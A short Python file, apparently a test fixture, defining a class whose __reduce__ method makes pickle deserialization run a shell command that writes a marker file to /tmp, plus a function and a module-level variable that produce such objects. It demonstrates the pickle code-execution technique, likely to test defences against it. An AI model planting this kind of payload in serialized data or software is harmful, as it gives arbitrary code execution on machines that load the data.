"""Returns an object that would run code where it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo FOUND-SECRET > /tmp/owned",)


def double(ring, values):
    ring.shift(values)
    return [Bomb(), Bomb()]


sent_gb = Bomb()
